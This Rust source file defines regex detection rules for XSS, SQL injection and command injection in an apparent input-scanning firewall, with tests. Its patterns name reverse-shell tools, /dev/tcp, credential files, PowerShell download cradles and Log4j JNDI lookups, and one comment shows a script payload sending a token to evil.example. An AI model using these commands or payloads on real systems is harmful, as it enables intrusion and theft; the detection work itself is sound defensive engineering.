//! The built-in rule sets. Every rule is one Hyperscan expression (PCRE syntax that the `regex`
//! crate also accepts, so benchmarks can run the same rules as a per-pattern loop) matched
//! case-insensitively and multi-line against the normalized views of a message.
//!
//! A rule either blocks on its own (`Confirm::None`: the expression is specific enough) or is
//! a candidate that a confirmer checks against the surrounding tokens. Expressions never match
//! `\n`, the separator between views in the scan buffer (`^` and `$` match at it). A command
//! at the start of a view or line is looked up after the scan instead (see
//! [`shell::line_start_command`]): a `\n` alternative costs a check at every segment.
//!
//! Scan speed depends on what Hyperscan anchors each expression on, and it picks the literal
//! with the best length score, not the rarest one. An expression whose best literal is a common
//! English fragment (`or`, `on`, `id`, a quote) costs a check at every occurrence in benign
//! text, so the rules are written around rare anchors and leave the rest to the confirmers:
//! - the punctuation that makes the shape (`;id`, `' or`, `'--`, the `=` after `on<event>`,
//!   the comparison of a tautology), with the words it would otherwise anchor on read back by
//!   the confirmer;
//! - one alternative per prefix (`;`, `|`, `` ` ``...) before a word list: Hyperscan expands a
//!   short prefix into the literal only when it has few variants. With a long list (the
//!   command words) it anchors on the words themselves, so such lists cost scan speed;
//! - no character class before the anchor (`(?:^|[;|&])/...`), and bounded repeats and `\w`
//!   rather than `[a-z]` next to it: Hyperscan otherwise turns them into engines that run over
//!   the whole buffer.

/// `(?:a|b|c)` from string literals.
macro_rules! alternation {
    ($first:literal $(, $rest:literal)* $(,)?) => {
        concat!("(?:", $first $(, "|", $rest)*, ")")
    };
}

/// SQL functions that injections call to leak data, delay or raise errors, and whose names
/// are not everyday English words: a call next to a boolean operator is strong evidence.
/// Passed to `$then` (a list or a pattern alternation). Dots in the names match any char in a
/// pattern, which only widens it.
macro_rules! unambiguous_functions {
    ($then:ident) => {
        $then!(
            "sleep",
            "benchmark",
            "pg_sleep",
            "extractvalue",
            "updatexml",
            "name_const",
            "isnull",
            "ifnull",
            "nullif",
            "load_file",
            "ascii",
            "ord",
            "substring",
            "substr",
            "mid",
            "concat",
            "concat_ws",
            "group_concat",
            "chr",
            "nchar",
            "hex",
            "unhex",
            "md5",
            "sha1",
            "version",
            "database",
            "schema",
            "current_user",
            "system_user",
            "session_user",
            "user_name",
            "db_name",
            "randomblob",
            "json_keys",
            "geometrycollection",
            "polygon",
            "multipoint",
            "multipolygon",
            "linestring",
            "multilinestring",
            "exp",
            "floor",
            "rand",
            "elt",
            "make_set",
            "export_set",
            "utl_inaddr.get_host_address",
            "utl_http.request",
            "dbms_pipe.receive_message",
            "dbms_lock.sleep",
            "dbms_utility.sqlid_to_sqlhash",
            "sys_context",
            "xmltype",
            "iif",
            "char_length",
            "conv",
            "strcmp",
            "locate",
            "soundex",
            "unicode",
            "coalesce",
            "current_setting",
            "pg_read_file",
            "to_char",
            "regexp_like",
            "ctxsys.drithsx.sn",
            "uuid",
            "rlike",
            "substring_index",
            "ascii_str",
            "st_latfromgeohash",
            "gtid_subset",
            "cos",
            "sin",
            "tan",
            "pi",
            "atan",
            "sqrt",
            "abs",
            "log",
            "power",
            "compress",
            "uncompress",
            "listagg",
        )
    };
}

/// Shell commands the command-injection candidates look for after a separator. Plain lowercase
/// words only: [`shell::line_start_command`] reads the list back as a word set.
macro_rules! commands {
    () => {
        "(?:whoami|uname|ifconfig|ipconfig|systeminfo|sysinfo|netstat|nslookup|wget|curl|ncat|netcat|nc|bash|sh|zsh|ksh|csh|tcsh|dash|powershell|pwsh|cmd|python|python2|python3|perl|php|ruby|lua|node|passwd|tasklist|taskkill|certutil|bitsadmin|xterm|mkfifo|mknod|socat|chmod|chown|crontab|wmic|useradd|usermod|nohup|xargs|printenv|lsof|traceroute|tracert|nbtstat|schtasks|icacls|cacls|findstr|sudo|telnet|tftp|hostname|uptime|gawk|awk|egrep|base64|pkill|killall|rmdir|chattr|iptables|netsh|id|ls|dir|cat|tac|type|echo|printf|sleep|usleep|ping|pwd|ps|kill|rm|mv|cp|touch|find|grep|net|env|set|time|more|less|head|tail|which|wc|nl|od|xxd|strings|dd|tar|unzip|reg|sc|shutdown|reboot|mount|df|du|who|last|route|arp|dig|host|exec|su|vi|vim|timeout|del|copy|ver|vol|tree|attrib|systemctl|service|openssl|gcc|git|choice|eval|builtin|command|nice|doas|setsid|stdbuf|ionice|busybox|ssh|scp|rsync|docker|kubectl|mysql|psql|tee|vssadmin|bcdedit|wevtutil|mshta|regsvr32|rundll32|cscript|wscript|msiexec|forfiles)"
    };
}

pub mod html;
pub mod shell;
pub mod sql;
pub mod sqltok;
mod words;

/// Which built-in family a rule belongs to (each is switched on by its policy flag).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Family {
    Xss,
    Sqli,
    CmdInjection,
}

/// Which view of a string a segment of the scan buffer holds (see [`crate::decode::normalize`]).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum View {
    /// The string as received, normalized.
    Original,
    /// After percent/entity/JS-escape decoding, normalized.
    Decoded,
    /// SQL comments removed.
    SqlJoined,
    /// Line breaks kept.
    Lines,
    /// Shell quoting tricks undone.
    Shell,
}

impl View {
    pub const fn bit(self) -> u8 {
        1 << self as u8
    }
}

/// A set of [`View`]s.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Views(u8);

impl Views {
    pub const fn of(views: &[View]) -> Views {
        let mut bits = 0;
        let mut i = 0;
        while i < views.len() {
            bits |= views[i].bit();
            i += 1;
        }
        Views(bits)
    }

    pub const fn contains(self, view: View) -> bool {
        self.0 & view.bit() != 0
    }
}

const MARKUP: Views = Views::of(&[View::Original, View::Decoded, View::SqlJoined, View::Lines]);
/// Views that command-injection rules see.
pub const SHELL: Views = Views::of(&[View::Original, View::Decoded, View::Lines, View::Shell]);
/// Views for rules that must see the literal `$IFS`-style tricks the shell view rewrites.
const SHELL_LITERAL: Views = Views::of(&[View::Original, View::Decoded, View::Lines]);
/// Views that custom patterns see.
pub const CUSTOM_VIEWS: Views = Views::of(&[View::Original, View::Decoded, View::Lines]);

/// How a candidate hit is confirmed before it counts.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Confirm {
    /// The expression alone is evidence.
    None,
    EventHandler,
    ScriptUri,
    ScriptSink,
    UnionSelect,
    Tautology,
    BooleanFunction,
    QuoteComment,
    StackedQuery,
    Statement,
    SelectFrom,
    OrderBy,
    SqlEvidence,
    SqlShape,
    SelectFunction,
    ShellCommand,
}

impl Confirm {
    /// Runs the confirmer on a match `[start, end)` of `text`, a segment holding `view`.
    pub fn check(self, text: &str, start: usize, end: usize, view: View) -> bool {
        match self {
            Confirm::None => true,
            Confirm::EventHandler => html::event_handler(text, start, end),
            Confirm::ScriptUri => html::script_uri(text, start, end),
            Confirm::ScriptSink => html::script_sink(text, start, end),
            Confirm::UnionSelect => sql::union_select(text, start, end),
            Confirm::Tautology => sql::tautology(text, start, end),
            Confirm::BooleanFunction => sql::boolean_function(text, start, end),
            Confirm::QuoteComment => sql::quote_comment(text, start, end),
            Confirm::StackedQuery => sql::stacked_query(text, start, end),
            Confirm::Statement => sql::statement(text, start, end),
            Confirm::SelectFrom => sql::select_from(text, start, end),
            Confirm::OrderBy => sql::order_by(text, start, end),
            Confirm::SqlEvidence => sql::sql_evidence(text, start, end),
            Confirm::ShellCommand => shell::chained_command(text, start, end, view),
            Confirm::SqlShape => sql::sql_shape(text, start, end),
            Confirm::SelectFunction => sql::select_function(text, start, end),
        }
    }
}

/// One built-in rule.
#[derive(Clone, Copy, Debug)]
pub struct Rule {
    /// Stable identifier reported in detections, e.g. `xss.script-tag`.
    pub id: &'static str,
    pub family: Family,
    pub expression: &'static str,
    pub confirm: Confirm,
    pub views: Views,
}

const fn rule(
    id: &'static str,
    family: Family,
    expression: &'static str,
    confirm: Confirm,
    views: Views,
) -> Rule {
    Rule {
        id,
        family,
        expression,
        confirm,
        views,
    }
}

/// The rule id of a command chained after a separator or starting a line.
pub const CHAINED_COMMAND: &str = "cmdi.chained-command";

use Confirm as C;
use Family::{CmdInjection as Cmd, Sqli, Xss};

/// `prefix body` for each prefix, as top-level alternatives: Hyperscan then anchors each one
/// on its prefix and the start of the body together (`;id`, rare in text) instead of on the
/// body alone (`id`, in every other English word).
macro_rules! each_prefix {
    ($body:expr; $first:literal $(, $prefix:literal)* $(,)?) => {
        concat!($first, $body $(, "|", $prefix, $body)*)
    };
}

/// The built-in rules, in evaluation order.
pub const BUILTIN: &[Rule] = &[
    // --- XSS -------------------------------------------------------------------------------
    rule(
        "xss.script-tag",
        Xss,
        r"<(?:/ ?)?(?:\w{1,20}:)?script\b",
        C::None,
        MARKUP,
    ),
    rule(
        "xss.embedding-tag",
        Xss,
        r"<(?:iframe|frame|frameset|object|embed|applet|svg|portal|isindex|vmlframe|style)\b",
        C::None,
        MARKUP,
    ),
    rule(
        "xss.base-tag",
        Xss,
        r"<base\b[^>\n]*\bhref ?=",
        C::None,
        MARKUP,
    ),
    rule(
        "xss.meta-tag",
        Xss,
        r"<meta\b[^>\n]*\b(?:http-equiv|content|url|charset) ?=",
        C::None,
        MARKUP,
    ),
    rule(
        "xss.link-tag",
        Xss,
        r"<link\b[^>\n]*\b(?:href|rel|import) ?=",
        C::None,
        MARKUP,
    ),
    rule(
        "xss.math-tag",
        Xss,
        r"<math\b[^>\n]*\b(?:href|xlink)",
        C::None,
        MARKUP,
    ),
    // `on<event> ?=`: the confirmer reads the handler name back from the `=` (anchoring on
    // `on` would stop at every "on", "one" and "only" of English text).
    rule("xss.event-handler", Xss, r"\w ?=", C::EventHandler, MARKUP),
    // `javascript:` (also `vbscript:`, `livescript:`, `mocha:`) with any spacing; the confirmer
    // reads the scheme back from the colon.
    rule(
        "xss.script-uri",
        Xss,
        r"pt ?:|ha ?:|p t ?:|h a ?:",
        C::ScriptUri,
        MARKUP,
    ),
    rule(
        "xss.data-uri",
        Xss,
        r"\bdata ?: ?(?:text/html|text/xml|text/javascript|application/(?:x-)?javascript|application/xhtml|application/xml|text/xsl|image/svg\+xml|application/x-shockwave|[^,\n ]{0,40};base64, ?P[A-H])",
        C::None,
        MARKUP,
    ),
    rule("xss.srcdoc", Xss, r"\bsrcdoc ?=", C::None, MARKUP),
    rule(
        "xss.xlink-href",
        Xss,
        r"\bxlink ?: ?href ?=",
        C::None,
        MARKUP,
    ),
    rule(
        "xss.flash-script-access",
        Xss,
        r"\ballowscriptaccess ?= ?['\x22]? ?always",
        C::None,
        MARKUP,
    ),
    rule(
        "xss.html-import",
        Xss,
        r"<\?(?:import|xml-stylesheet)\b",
        C::None,
        MARKUP,
    ),
    // Netscape JavaScript entities, `&{alert(1)};`: a call inside, so that `&{` and a `}` in
    // binary data do not pair up.
    rule(
        "xss.js-entity",
        Xss,
        r"&\{ ?(?:\(|[\w.$:]{2,40} ?\()[^}\n]{0,80}\}",
        C::None,
        MARKUP,
    ),
    rule(
        "xss.sink-reference",
        Xss,
        r"\( ?(?:[\w.]{1,20} ?, ?)?(?:alert|prompt|confirm|eval) ?\) ?[(\x60]|\.\w{1,40} ?\( ?(?:alert|prompt|confirm|eval) ?\)|= ?(?:alert|prompt|confirm|eval) ?[;,\])}]|\b(?:alert|prompt|confirm|eval) ?\. ?(?:call|apply|bind) ?\(|\breflect ?\. ?(?:apply|construct) ?\( ?(?:alert|prompt|confirm|eval|function)\b|\bfunction ?\( ?\w{1,40} ?\) ?\(|\b[0-9]{5,}\.\. ?tostring ?\( ?[0-9]{2} ?\)|\( ?[0-9]{5,} ?\) ?\. ?tostring ?\( ?[0-9]{2} ?\)|\[ ?['\x22\x60](?:alert|prompt|confirm|eval)['\x22\x60] ?\]|/[\w$]{1,60}/ ?\. ?source\b|\bfunction ?(?:\( ?['\x22\x60]|\x60)|\bnew function\b",
        C::None,
        MARKUP,
    ),
    rule(
        "xss.function-literal",
        Xss,
        r"\bfunction ?[\w$]{0,40} ?\([\w$, ]{0,60}\) ?\{",
        C::None,
        MARKUP,
    ),
    rule(
        "xss.css-expression",
        Xss,
        r"(?:[:=(] ?['\x22]? ?expression ?\(|-moz-binding ?:|\bbehavio(?:u)?r ?: ?url|@import ?(?:url)? ?\(? ?['\x22]? ?(?:javascript|https?:|//))",
        C::None,
        MARKUP,
    ),
    rule(
        "xss.script-sink",
        Xss,
        r"\b(?:alert|prompt|confirm|print|eval|settimeout|setinterval|execscript|msgbox)\b ?(?:\?\. ?)?[(\x60]",
        C::ScriptSink,
        MARKUP,
    ),
    rule(
        "xss.dom-sink",
        Xss,
        r"\bdocument ?\. ?(?:cookie|domain|write|writeln|location|url|referrer)\b|\bwindow ?\. ?(?:location|open|name|eval)\b|\.(?:inner|outer)html ?=|\blocation ?\. ?(?:href|hash|replace|assign)\b|\bfromcharcode ?\(|\.constructor ?\(|\bconstructor ?\. ?constructor\b|\batob ?\(|\bimport ?\( ?['\x22\x60]|\b(?:top|self|parent|window|globalthis|frames)\[ ?['\x22\x60]|\b(?:top|self|parent|window|globalthis|frames) \[ ?['\x22\x60]|\$\{ ?alert|\[ ?['\x22\x60]constructor['\x22\x60] ?\]|\bcreateelement ?\( ?['\x22\x60] ?script\b|\bnavigator ?\. ?sendbeacon ?\(|[;'\x22\x60(,&|] ?(?:(?:document|window|top|self) ?\. ?)?location ?= ?(?:name|url|window ?\. ?name|document ?\. ?url)\b",
        C::None,
        MARKUP,
    ),
    // A quote that ends the application's JavaScript string, an operator, and a request that
    // carries data out (`';fetch('//evil.example/'+localStorage.token)//`).
    rule(
        "xss.js-breakout",
        Xss,
        r"['\x22\x60] ?[;+\-*/|&,)]{1,3} ?\(? ?(?:fetch ?[(\x60]|new (?:image|xmlhttprequest|websocket|eventsource)\b|\$ ?\. ?(?:getscript|get|post|ajax) ?\(|postmessage ?\(|navigator ?\. ?sendbeacon ?\()",
        C::None,
        MARKUP,
    ),
    rule(
        "xss.template-injection",
        Xss,
        r"\{\{[^}\n]{0,80}(?:constructor|\$eval|\$on|alert|\$event|__proto__|\[ ?'|\.call ?\(|\.apply ?\()",
        C::None,
        MARKUP,
    ),
    // --- SQL injection -------------------------------------------------------------------
    rule(
        "sqli.union-select",
        Sqli,
        r"(?:\b|[0-9])union(?: (?:all|distinct|distinctrow))? ?\({0,4} ?(?:select|values ?row|table)\b",
        C::UnionSelect,
        MARKUP,
    ),
    // A comparison; the confirmer reads back to the boolean operator (`' OR '1'='1`), which
    // would otherwise be the anchor, in every "or" and "and" of English text.
    rule(
        "sqli.tautology",
        Sqli,
        r"[\w'\x22\x60)] ?(?:[=<>]|![=<>])",
        C::Tautology,
        MARKUP,
    ),
    // A keyword comparison with its right-hand operand (`OR name LIKE '%`, `IS NOT NULL`).
    rule(
        "sqli.keyword-comparison",
        Sqli,
        r"\b(?:like|rlike|regexp) ['\x22\x60%]|\b(?:like|rlike|regexp)['\x22\x60%]|\b(?:like|rlike|regexp) ?char ?\(|\bis (?:not )?null\b|\bbetween [0-9'\x22\x60]|\bdiv [0-9(]|\bin ?\( ?[0-9'\x22\x60@]",
        C::Tautology,
        MARKUP,
    ),
    // An injection function call; the confirmer reads back to the boolean operator.
    rule(
        "sqli.boolean-function",
        Sqli,
        concat!(r"\b", unambiguous_functions!(alternation), r" ?\("),
        C::BooleanFunction,
        MARKUP,
    ),
    rule(
        "sqli.boolean-tail",
        Sqli,
        each_prefix!(
            r" ?(?:(?:or|and|xor)\b|\|\||&&) ?\(? ?(?:[0-9]+|true|false|null|'[^'\n ]{0,40}'|\x22[^\x22\n ]{0,40}\x22) ?\)? ?(?:--|#|/\*|;|$)";
            "'", r"\x22", r"\x60", r"\)"
        ),
        C::None,
        MARKUP,
    ),
    rule(
        "sqli.quote-comment",
        Sqli,
        each_prefix!(r" ?\){0,3} ?;? ?(?:--|#|/\*)"; "'", r"\x22", r"\x60"),
        C::QuoteComment,
        MARKUP,
    ),
    rule(
        "sqli.stacked-query",
        Sqli,
        r"; ?(?:drop|insert|update|delete|select|exec|execute|declare|shutdown|create|alter|truncate|waitfor|grant|revoke|set|if|begin|union|desc|describe|show|copy|lock|replace|load|prepare|pragma|kill|backup|restore|bulk)\b",
        C::StackedQuery,
        MARKUP,
    ),
    rule(
        "sqli.ddl-statement",
        Sqli,
        r"\b(?:drop|create|alter|truncate) (?:table|database|schema|view|procedure|function|user|trigger|index|login)\b",
        C::Statement,
        MARKUP,
    ),
    rule(
        "sqli.dml-statement",
        Sqli,
        r"\binsert into \S{1,64} ?(?:\(|values\b|select\b)|\bdelete from \S{1,64} ?(?:where\b|;|--|#|$)|\bupdate \S{1,64} set \S{1,64} ?=",
        C::None,
        MARKUP,
    ),
    // The confirmer reads the select list and the FROM clause forward from the keyword.
    rule(
        "sqli.select-from",
        Sqli,
        r"\bselect\b",
        C::SelectFrom,
        MARKUP,
    ),
    rule(
        "sqli.time-delay",
        Sqli,
        r"(?:\bsleep ?\( ?(?:[0-9.]+ ?\)|\(|select\b|if\b|case\b|@)|\bbenchmark ?\( ?[0-9]|\bpg_sleep ?\(|\bwaitfor (?:delay|time) ?['\x22]|\bdbms_lock ?\. ?sleep ?\(|\bdbms_pipe ?\. ?receive_message ?\(|\brandomblob ?\( ?[0-9]{5,}|\bget_lock ?\(|\brepeat ?\( ?['\x22][^'\x22\n]{0,8}['\x22] ?, ?[0-9]{6,})",
        C::None,
        MARKUP,
    ),
    rule(
        "sqli.schema-enumeration",
        Sqli,
        r"\b(?:information_schema|mysql\.(?:user|db)\b|sysobjects|syscolumns|sysdatabases|sysusers|sys\.(?:objects|tables|columns|databases|sql_logins|all_tables|user_objects|schemas)\b|pg_(?:catalog|shadow|user|database|tables|class|namespace|stat_activity)\b|sqlite_(?:master|schema|temp_master)\b|all_tab_columns|all_tables\b|user_tables\b|user_tab_columns|dba_users|msysaccessobjects|msysobjects|sysibm\.|syscat\.|rdb\$|master\.\.sys)",
        C::None,
        MARKUP,
    ),
    rule(
        "sqli.system-variable",
        Sqli,
        r"@@(?:version|datadir|hostname|basedir|servername|tmpdir|language|spid|identity|global|session|port|innodb|microsoftversion|max_connections|character_set)",
        C::None,
        MARKUP,
    ),
    rule(
        "sqli.mssql-procedure",
        Sqli,
        r"\b(?:xp_cmdshell|xp_regread|xp_regwrite|xp_dirtree|xp_fileexist|xp_servicecontrol|xp_availablemedia|sp_oacreate|sp_oamethod|sp_executesql|sp_makewebtask|sp_addlogin|sp_addsrvrolemember|sp_configure|sp_password|opendatasource|openrowset|openquery)\b|\bexec(?:ute)? (?:master ?\. ?\.)?(?:sp|xp)_\w",
        C::None,
        MARKUP,
    ),
    rule(
        "sqli.file-access",
        Sqli,
        r"\bload_file ?\(|\binto (?:out|dump)file\b|\bload data (?:local )?infile\b|\bpg_read_file ?\(|\butl_file ?\.|\bcopy [\w.]{1,64} (?:from|to) program\b",
        C::None,
        MARKUP,
    ),
    rule(
        "sqli.database-package",
        Sqli,
        r"\b(?:utl_inaddr|utl_http|dbms_[a-z_]+ ?\.|ctxsys\.\w|sys\.dbms_\w)",
        C::None,
        MARKUP,
    ),
    rule(
        "sqli.error-function",
        Sqli,
        r"(?:\b(?:extractvalue|updatexml|name_const|gtid_subset|json_keys|st_latfromgeohash) ?\(|\bexp ?\( ?~|\bfloor ?\( ?rand ?\()",
        C::None,
        MARKUP,
    ),
    rule(
        "sqli.dynamic-exec",
        Sqli,
        r"(?:\bexec(?:ute)? ?\( ?@|\bdeclare @\w+ (?:as )?(?:n?varchar|n?char|int|sysname|varbinary|table|cursor)\b|\bcast ?\( ?0x[0-9a-f]{6,}|\b(?:char|chr) ?\( ?[0-9]+ ?\) ?(?:\+|\|\|) ?(?:char|chr) ?\(|\bchar ?\( ?[0-9]+ ?(?:, ?[0-9]+ ?){2,}\))",
        C::None,
        MARKUP,
    ),
    rule(
        "sqli.function-chain",
        Sqli,
        r"\b(?:concat|concat_ws|group_concat|char|chr|ascii|substring|substr|mid|unhex|hex|version|database|user|current_user|system_user|convert|cast|md5|ord|length|count|if|iif|ifnull|isnull|coalesce|elt|make_set|sys_context|to_char|xmltype|multipoint|polygon|geometrycollection|linestring)\b ?\(",
        C::SqlEvidence,
        MARKUP,
    ),
    rule(
        "sqli.order-by",
        Sqli,
        r"\b(?:order|group) by ?[0-9]+\b",
        C::OrderBy,
        MARKUP,
    ),
    rule(
        "sqli.comment-terminated",
        Sqli,
        r"[)'\x22\x60@\w] ?(?:--|#|/\*)",
        C::SqlShape,
        MARKUP,
    ),
    rule(
        "sqli.quote-operator",
        Sqli,
        each_prefix!(
            r" ?(?:(?:or|and|xor|not|like|rlike|regexp|div|is|in|between|union|having|sounds|collate|escape|limit|procedure|into|order|group)\b|\|\||&&)";
            "'", r"\x22", r"\x60"
        ),
        C::SqlShape,
        MARKUP,
    ),
    rule(
        "sqli.quote-comparison",
        Sqli,
        concat!(
            each_prefix!("[-+*/%^]"; "'", "' ", r"\x22", r"\x22 ", r"\x60", r"\x60 "),
            "|",
            each_prefix!("[|&!=<>]"; "'", "' ", r"\x22", r"\x22 ", r"\x60", r"\x60 "),
        ),
        C::SqlShape,
        MARKUP,
    ),
    rule("sqli.subquery", Sqli, r"\( ?select\b", C::SqlShape, MARKUP),
    rule(
        "sqli.select-function",
        Sqli,
        r"\bselect ?\({0,3} ?[a-z_][\w.]{0,40} ?\(",
        C::SelectFunction,
        MARKUP,
    ),
    rule(
        "sqli.boolean-literal",
        Sqli,
        r"(?:\b(?:or|and|xor)\b|\|\||&&) ?\({0,3} ?(?:true|false|null|exists)\b|(?:\b(?:or|and|xor)|\|\||&&) [0-9]",
        C::SqlShape,
        MARKUP,
    ),
    // --- Command injection ---------------------------------------------------------------
    // A command after a separator. A command at the start of a view or line is found after
    // the scan by [`shell::line_start_command`]: as a `\n` alternative here it cost a check at
    // every segment of the buffer, most of the scan time of short messages.
    rule(
        CHAINED_COMMAND,
        Cmd,
        each_prefix!(concat!(" ?", commands!(), r"\b"); ";", r"\|", "&", r"\x60", r"[$<>]\(", r"\{"),
        C::ShellCommand,
        SHELL,
    ),
    rule(
        "cmdi.brace-expansion",
        Cmd,
        each_prefix!(concat!(commands!(), r" ?,[^}\n ]{0,80}\}"); r"\{", r"\{ "),
        C::None,
        SHELL_LITERAL,
    ),
    rule(
        "cmdi.ifs",
        Cmd,
        r"\$(?:\{ ?ifs ?\}|ifs\b|\{ ?\w+ ?:[0-9 -]+(?::[0-9 ]+)?\})",
        C::None,
        SHELL_LITERAL,
    ),
    // A substitution glued into a word (`who$(echo am)i`, `wh``oami`) or a variable run as a
    // command (`;$CMD`). Requiring a command inside keeps backticks in binary data from
    // pairing up into candidates.
    rule(
        "cmdi.inline-substitution",
        Cmd,
        concat!(
            r"\w\$\( ?",
            commands!(),
            r"(?: [^)\n]{0,80})?\)\w|\x60 ?",
            commands!(),
            r"(?: [^\x60\n]{0,80})?\x60\w|\w\w\x60\x60\w\w|",
            each_prefix!(
                r"\$\{?\w{3,30}\}? ?(?:$|[;&|\x60])";
                ";", "; ", "&", "& ", r"\|", r"\| ", r"\x60", r"\x60 "
            ),
        ),
        C::None,
        SHELL_LITERAL,
    ),
    rule(
        "cmdi.dev-tcp",
        Cmd,
        r"(?:/dev/(?:tcp|udp)/|>& ?/dev/|\bexec [0-9]*<>|[0-9]<& ?[0-9]+)",
        C::None,
        SHELL,
    ),
    rule(
        "cmdi.interactive-shell",
        Cmd,
        r"(?:\b(?:ba|z|k|c|tc|da|a)?sh -[a-z]*i\b|\bn(?:c|cat|etcat)(?:\.exe)?\b[^\n]{0,60} -[a-z]*[ec]\b|\bmkfifo /|\bsocat\b[^\n]{0,80}\bexec:)",
        C::None,
        SHELL,
    ),
    rule(
        "cmdi.socket-shell",
        Cmd,
        r"(?:\bpty\.spawn ?\(|\bsocket\.socket ?\(|\buse socket ?;|\bfsockopen ?\(|\btcpsocket\.(?:new|open)\b|system\.net\.sockets\.tcpclient)",
        C::None,
        SHELL,
    ),
    rule(
        "cmdi.sensitive-file",
        Cmd,
        r"(?:/etc/(?:passwd|shadow|group|hosts|issue|sudoers|crontab|hostname|resolv\.conf|motd|fstab|master\.passwd)\b|/proc/self/(?:environ|cmdline|fd|maps|exe|status)\b|\bc: ?[\\/]+windows[\\/]+(?:system32|win\.ini|repair|system\.ini|panther)|\b(?:win|boot|system)\.ini\b|%(?:systemroot|windir|comspec)%|[\\/]repair[\\/](?:sam|system|security)\b)",
        C::None,
        SHELL,
    ),
    rule(
        "cmdi.code-exec",
        Cmd,
        r"(?:\b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|spawn|execsync|spawnsync|os\.system|os\.popen|subprocess\.(?:call|run|popen|check_output)|process\.start|child_process\.exec) ?\( ?['\x22\x60$]|\bruntime\.getruntime ?\( ?\) ?\.exec\b|\bphpinfo ?\( ?\))",
        C::None,
        SHELL,
    ),
    rule(
        "cmdi.interpreter-eval",
        Cmd,
        r"\b(?:perl|python[23]?|ruby|php|node|lua) -[a-z]*[ecr] ?['\x22]",
        C::None,
        SHELL,
    ),
    rule(
        "cmdi.shellshock",
        Cmd,
        r"\(\) ?\{ ?[^}\n]{0,20}\} ?;",
        C::None,
        SHELL,
    ),
    // Bytes spelled as escapes inside a shell's `$'...'` quoting (`$'\x69\x64'` is `id`):
    // nothing but obfuscation writes two in a row.
    rule(
        "cmdi.ansi-c-escapes",
        Cmd,
        r"\$'[^'\n]{0,40}(?:\\(?:x[0-9a-f]{1,2}|[0-7]{1,3}|u[0-9a-f]{4})){2}",
        C::None,
        SHELL_LITERAL,
    ),
    // A Log4j JNDI lookup (`${jndi:ldap://...}`) loads and runs remote code; the lookup's own
    // syntax hides its name (`${${lower:j}ndi:`, `${j${::-n}di:`), which no other text nests.
    rule(
        "cmdi.jndi-lookup",
        Cmd,
        r"\$\{ ?jndi ?:|\$\{[a-z]{0,4}\$\{ ?(?:::-|[a-z0-9]{1,12} ?:)",
        C::None,
        SHELL_LITERAL,
    ),
    rule(
        "cmdi.ssi",
        Cmd,
        r"<!--# ?(?:exec|include|echo|printenv|config|fsize|flastmod|set)\b",
        C::None,
        SHELL,
    ),
    rule(
        "cmdi.system-binary",
        Cmd,
        r"(?:^|[^\w.])/+(?:usr/+)?(?:local/+)?s?bin/+[a-z]",
        C::None,
        SHELL,
    ),
    // A path spelled with shell wildcards (`/???/??t /???/p??s??`, `/b*n/c?t`): a directory
    // name with `?` or `*` in it only means something to a shell's globbing. Nothing is
    // required before the `/`: a class there would make Hyperscan run it at every byte.
    rule(
        "cmdi.glob-path",
        Cmd,
        r"/[\w.\[\]-]{0,8}[?*][\w.?*\[\]-]{0,8}/[\w.?*\[\]-]{1,16}",
        C::None,
        SHELL_LITERAL,
    ),
    rule(
        "cmdi.windows-command",
        Cmd,
        r"(?:^|[;&|\x60'\x22()]) ?(?:net (?:user|localgroup|view|share|use|session|accounts)\b|reg (?:query|add|delete)\b|sc (?:query|create|config)\b|wmic |type [a-z]:\\|dir [a-z]:\\)",
        C::None,
        SHELL,
    ),
    // PowerShell download-and-run cradles and the flags that hide a PowerShell window.
    rule(
        "cmdi.powershell",
        Cmd,
        r"(?:\biex ?\(|\b(?:iwr|irm|curl|wget|invoke-webrequest|invoke-restmethod)\b[^|\n]{0,80}\| ?(?:iex|invoke-expression)\b|\binvoke-(?:expression|webrequest|restmethod|wmimethod)\b|\bnew-object (?:-typename )?(?:system\.)?net\.webclient\b|\.download(?:string|file|data) ?\(|\b(?:powershell|pwsh)(?:\.exe)? (?:[^\n]{0,60} )?-(?:e|ec|enc|encodedcommand|nop|noprofile|w hidden|windowstyle hidden|ep bypass|exec bypass|executionpolicy bypass)\b)",
        C::None,
        SHELL,
    ),
];

#[cfg(test)]
mod tests {
    use super::BUILTIN;
    use std::collections::HashSet;

    #[test]
    fn ids_are_unique_and_namespaced() {
        let mut seen = HashSet::new();
        for rule in BUILTIN {
            assert!(seen.insert(rule.id), "duplicate {}", rule.id);
            assert!(
                rule.id.starts_with("xss.")
                    || rule.id.starts_with("sqli.")
                    || rule.id.starts_with("cmdi.")
            );
        }
    }

    #[test]
    fn expressions_also_compile_as_regex_crate_patterns() {
        for rule in BUILTIN {
            regex_syntax::Parser::new()
                .parse(rule.expression)
                .unwrap_or_else(|e| panic!("{}: {e}", rule.id));
        }
    }
}
